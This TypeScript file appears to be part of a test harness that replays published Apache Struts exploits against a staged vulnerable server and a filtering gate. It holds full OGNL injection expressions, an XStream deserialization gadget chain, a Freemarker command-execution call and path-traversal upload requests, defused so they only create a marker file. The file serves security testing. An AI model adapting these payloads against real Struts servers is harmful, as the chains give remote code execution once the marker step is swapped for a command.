/**
 * Public attacks on Apache Struts, each as the request its advisory or its published proof describes, made harmless: all
 * that any of them does is to create an empty marker file, or to name one. `{ognl}` and `{marker}` are filled in when it
 * is played. Sources: the Struts security bulletins by their number (S2-…) and the CVE. Characters are bytes (Latin-1).
 */
export interface Variant {
    readonly id: string
    readonly cve: string
    /** Where in the request the attack stands. */
    readonly where: string
    /** Whether the staged victim (Struts 2.3.31, core only) has the hole; the others are only put before the gate. */
    readonly onVictim: boolean
    readonly method: "GET" | "POST"
    readonly target: string
    readonly contentType: string
    readonly body: string
    /** What the request says instead of its true length: then the rest never comes. */
    readonly claimedBytes?: number
}

/** The expression of March 2017 as it went round, with a file instead of a command; `{marker}` is an absolute path. */
export const OGNL_2017: string =
    "%{(#n='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)." +
    "(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])." +
    "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))." +
    "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())." +
    "(#context.setMemberAccess(#dm)))).(#marker=new java.io.File('{marker}')).(#marker.createNewFile())}"

/** The double evaluation of 2020, without the member access that later versions took away. */
const OGNL_2020 =
    '%{(#im=#application["org.apache.tomcat.InstanceManager"])' +
    '.(#stack=#attr["com.opensymphony.xwork2.util.ValueStack.ValueStack"])' +
    '.(#bean=#im.newInstance("org.apache.commons.collections.BeanMap")).(#bean.setBean(#stack))' +
    '.(#context=#bean.get("context")).(#bean.setBean(#context)).(#macc=#bean.get("memberAccess")).(#bean.setBean(#macc))' +
    '.(#empty=#im.newInstance("java.util.HashSet")).(#bean.put("excludedClasses",#empty))' +
    '.(#bean.put("excludedPackageNames",#empty)).(#run=#im.newInstance("freemarker.template.utility.Execute"))' +
    '.(#run.exec({"touch {marker}"}))}'

const XSTREAM =
    "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags>" +
    '<value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data"><dataHandler>' +
    '<dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource">' +
    '<is class="javax.crypto.CipherInputStream"><cipher class="javax.crypto.NullCipher"><initialized>false</initialized>' +
    '<serviceIterator class="javax.imageio.spi.FilterIterator"><iter class="javax.imageio.spi.FilterIterator">' +
    '<iter class="java.util.Collections$EmptyIterator"/><next class="java.lang.ProcessBuilder">' +
    "<command><string>touch</string><string>{marker}</string></command></next></iter>" +
    '<filter class="javax.imageio.ImageIO$ContainsFilter"><method><class>java.lang.ProcessBuilder</class>' +
    "<name>start</name><parameter-types/></method><name>foo</name></filter><next>foo</next></serviceIterator>" +
    "</cipher></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString><string/></entry></map>"

const BOUNDARY = "----survey"
const MULTIPART = `multipart/form-data; boundary=${BOUNDARY}`
const FORM = "application/x-www-form-urlencoded"

function part(head: string, value: string): string {
    return `--${BOUNDARY}\r\nContent-Disposition: form-data; ${head}\r\n\r\n${value}\r\n`
}

function upload(...parts: readonly string[]): string {
    return `${parts.join("")}--${BOUNDARY}--\r\n`
}

export const VARIANTS: readonly Variant[] = [
    {
        id: "S2-045",
        cve: "CVE-2017-5638",
        where: "Content-Type",
        onVictim: true,
        method: "POST",
        target: "/questions.action",
        contentType: "{ognl}",
        body: "",
    },
    {
        id: "S2-046",
        cve: "CVE-2017-5638",
        where: "multipart filename (NUL)",
        onVictim: true,
        method: "POST",
        target: "/answer.action",
        contentType: MULTIPART,
        body: upload(part('name="plan"; filename="{ognl}\0b"', "plan")),
    },
    {
        id: "S2-046 (length)",
        cve: "CVE-2017-5638",
        where: "multipart filename, Content-Length over 2 GB",
        onVictim: false, // only with the other parser, struts.multipart.parser=jakarta-stream
        method: "POST",
        target: "/answer.action",
        contentType: MULTIPART,
        body: upload(part('name="plan"; filename="{ognl}"', "plan")),
        claimedBytes: 10_000_000_000,
    },
    {
        id: "S2-048",
        cve: "CVE-2017-9791",
        where: "form field",
        onVictim: false,
        method: "POST",
        target: "/integration/saveGangster.action",
        contentType: FORM,
        body: "name={ognl:encoded}&age=1&__checkbox_bustedBefore=true&description=1",
    },
    {
        id: "S2-052",
        cve: "CVE-2017-9805",
        where: "XML body",
        onVictim: false,
        method: "POST",
        target: "/orders/3",
        contentType: "application/xml",
        body: XSTREAM,
    },
    {
        id: "S2-053",
        cve: "CVE-2017-12611",
        where: "form field",
        onVictim: false,
        method: "POST",
        target: "/hello.action",
        contentType: FORM,
        body: "redirectUri={ognl:encoded}",
    },
    {
        id: "S2-057",
        cve: "CVE-2018-11776",
        where: "path (namespace)",
        onVictim: false,
        method: "GET",
        target: "/{ognl:encoded}/actionChain1.action",
        contentType: "",
        body: "",
    },
    {
        id: "S2-061",
        cve: "CVE-2020-17530",
        where: "multipart field",
        onVictim: false,
        method: "POST",
        target: "/index.action",
        contentType: MULTIPART,
        body: upload(part('name="id"', OGNL_2020)),
    },
    {
        id: "S2-066",
        cve: "CVE-2023-50164",
        where: "multipart field name (case) and path",
        onVictim: false,
        method: "POST",
        target: "/upload.action",
        contentType: MULTIPART,
        body: upload(
            part('name="Upload"; filename="plan.txt"\r\nContent-Type: text/plain', "plan"),
            part('name="uploadFileName"', "../..{marker}"),
        ),
    },
    {
        id: "S2-067",
        cve: "CVE-2024-53677",
        where: "multipart field name (OGNL) and path",
        onVictim: false,
        method: "POST",
        target: "/upload.action",
        contentType: MULTIPART,
        body: upload(
            part('name="Upload"; filename="plan.txt"\r\nContent-Type: text/plain', "plan"),
            part('name="top.UploadFileName"', "../..{marker}"),
        ),
    },
    {
        id: "S2-067 (name)",
        cve: "CVE-2024-53677",
        where: "multipart field name (OGNL), no path",
        onVictim: false,
        method: "POST",
        target: "/upload.action",
        contentType: MULTIPART,
        body: upload(
            part('name="Upload"; filename="plan.txt"\r\nContent-Type: text/plain', "plan"),
            part('name="top.UploadFileName"', "plan.jsp"),
        ),
    },
]
